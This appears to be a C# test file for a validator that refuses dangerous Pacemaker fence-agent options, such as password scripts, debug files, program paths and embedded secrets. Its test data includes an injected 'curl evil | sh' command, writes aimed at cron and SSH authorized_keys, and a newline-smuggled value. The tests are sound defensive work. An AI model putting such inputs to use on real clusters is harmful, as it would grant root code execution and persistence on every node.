using StorageHa.Shared.Fencing;
using StorageHa.Shared.Inventory;
using StorageHa.Shared.Tests.Provisioning;
using StorageHa.Shared.Validation;

namespace StorageHa.Shared.Tests.Fencing;

/// <summary>Fence options reach `pcs stonith create` and the agent's stdin as root on every node: only the agent's own, harmless ones pass.</summary>
public class FenceOptionTests
{
    private static IReadOnlyList<ValidationError> Errors(string agent, params (string Key, string Value)[] options)
    {
        var spec = SpecExamples.ThreeNodes() with
        {
            Fencing = new()
            {
                Devices = [new() { Name = "f1", Agent = agent, Options = options.ToDictionary(o => o.Key, o => o.Value), Nodes = ["node1"] }],
            },
        };
        return spec.Validate().Where(e => e.Field.StartsWith("fencing.", StringComparison.Ordinal)).ToList();
    }

    private static string Refusal(string agent, string option, string value) =>
        Assert.Single(Errors(agent, (option, value)), e => e.Field == $"fencing.devices[0].options.{option}").Message;

    [Fact]
    public void AFenceOptionPasswordScript_IsRefused_BecauseTheAgentRunsItAsRootThroughAShell()
    {
        Assert.Contains("'password_script' makes the fence agent run a program as root", Refusal("fence_ipmilan", "password_script", "/tmp/x; curl evil | sh"));
        Assert.Contains("run a program", Refusal("fence_ipmilan", "passwd_script", "/tmp/x"));
    }

    [Fact]
    public void DebugFile_IsRefused_BecauseTheAgentWritesItAnywhereAsRoot()
    {
        Assert.Contains("'debug_file' makes the fence agent write a file as root", Refusal("fence_ipmilan", "debug_file", "/etc/cron.d/x"));
        Assert.Contains("write a file", Refusal("fence_virsh", "debug", "/root/.ssh/authorized_keys"));
    }

    [Fact]
    public void SecretKey_IsRefused_AsAFenceSecretThatDoesNotBelongInTheSpec()
    {
        Assert.Contains("'secret_key' is a fence secret and does not belong in the spec", Refusal("fence_ipmilan", "secret_key", "s3cr3t"));
        Assert.Contains("set the device's password in the console instead: it is kept encrypted", Refusal("fence_ipmilan", "password", "s3cr3t"));
        Assert.Contains("fence secret", Refusal("fence_ipmilan", "hexadecimal_kg", "00ff"));
    }

    [Fact]
    public void AnOptionTheAgentDoesNotHave_IsRefused_NamingIt()
    {
        Assert.Equal("'ssl_insecure' is not an option of fence_ipmilan (see fence_ipmilan -o metadata)", Refusal("fence_ipmilan", "ssl_insecure", "1"));
        Assert.Contains("'pcmk_host_list' is not an option", Refusal("fence_ipmilan", "pcmk_host_list", "node9"));
    }

    [Fact]
    public void AnAgentTheConsoleDoesNotSupport_IsRefused_NamingTheOnesItDoes()
    {
        var error = Assert.Single(Errors("fence_xvm"));
        Assert.Equal("fencing.devices[0].agent", error.Field);
        Assert.Contains("fence_ipmilan, fence_sbd, fence_virsh", error.Message);
    }

    [Theory]
    [InlineData("fence_ipmilan", "ipmitool_path")]
    [InlineData("fence_ipmilan", "sudo_path")]
    [InlineData("fence_virsh", "ssh_path")]
    [InlineData("fence_virsh", "ssh_options")]
    [InlineData("fence_sbd", "sbd_path")]
    [InlineData("fence_sbd", "debug_file")]
    public void OptionsThatRunProgramsOrWriteFiles_AreRefusedEvenThoughTheMetadataHasThem(string agent, string option)
    {
        Assert.Contains(FenceAgent.Find(agent)!.Parameters, p => p.Name == option);
        Assert.Contains("as root on every node", Refusal(agent, option, "/usr/bin/true"));
    }

    [Fact]
    public void EveryOptionOfTheSupportedAgents_ThatNamesAProgramOrAFileToWrite_IsClassifiedByRule()
    {
        foreach (var agent in FenceAgent.SupportedNames.Select(n => FenceAgent.Find(n)!))
            foreach (var p in agent.Parameters)
            {
                var dangerous = p.Name.EndsWith("_path", StringComparison.Ordinal) || p.Name.EndsWith("_script", StringComparison.Ordinal)
                    || p.Description.Contains("to given file", StringComparison.Ordinal);
                if (dangerous) Assert.True(p.RunsPrograms() || p.WritesFiles(), $"{agent.Name} {p.Name} should be refused");
            }
    }

    [Theory]
    [InlineData("lanplus", "yes please", "must be a boolean")]
    [InlineData("lanplus", "1\n", "must be a boolean")]
    [InlineData("ipport", "623\n", "must be a whole number")]
    [InlineData("ipport", "twenty", "must be a whole number")]
    [InlineData("power_timeout", "20s", "must be a number of seconds")]
    [InlineData("method", "reset", "must be one of: onoff, cycle")]
    [InlineData("privlvl", "administrator\n", "must be one of")]
    [InlineData("username", "fence\nip=10.9.9.9", "single line")]
    public void Values_AreCheckedByTheMetadatasType_WholeToTheTrueEnd(string option, string value, string message) =>
        Assert.Contains(message, Refusal("fence_ipmilan", option, value));

    [Fact]
    public void DeprecatedOptions_PointToTheirReplacement() =>
        Assert.Equal("'ipaddr' is deprecated in fence_ipmilan: use 'ip'", Refusal("fence_ipmilan", "ipaddr", "10.0.0.1"));

    [Fact]
    public void AnOrdinaryDevice_PassesUnchanged()
    {
        Assert.Empty(Errors("fence_ipmilan", ("ip", "10.20.1.11"), ("username", "fence"), ("lanplus", "1"), ("method", "cycle"), ("power_timeout", "30")));
        Assert.Empty(Errors("fence_virsh", ("ip", "192.0.2.1"), ("username", "fence"), ("identity_file", "/root/.ssh/fence_ed25519"), ("delay", "2.5")));
        Assert.Empty(Errors("fence_sbd", ("devices", "/dev/disk/by-id/sbd")));
    }

    [Fact]
    public void TheFormOffersFenceIpmilansOwnHarmlessOptions_WithTheirTypesAndDefaults_AndNotTheRefusedOrDeprecatedOnes()
    {
        var offered = FenceAgent.Find("fence_ipmilan")!.Settable.ToDictionary(p => p.Name);

        Assert.Contains("ip", offered.Keys);
        Assert.Equal(("integer", "623"), (offered["ipport"].Type, offered["ipport"].Default));
        Assert.Equal("boolean", offered["lanplus"].Type);
        Assert.Contains("operator", offered["privlvl"].Choices);
        Assert.All(["password", "password_script", "passwd", "hexadecimal_kg", "debug_file", "ipmitool_path", "sudo_path", "ipaddr", "login", "action", "help"],
            refused => Assert.DoesNotContain(refused, offered.Keys));
        Assert.All(offered.Values, p => Assert.Empty(FenceAgent.CheckOptions(FenceAgent.Find("fence_ipmilan"),
            new Dictionary<string, string> { [p.Name] = p.Choices.FirstOrDefault() ?? (p.Type == "boolean" ? "1" : p.Type is "integer" or "second" ? "1" : "x") }, "")));
    }
}
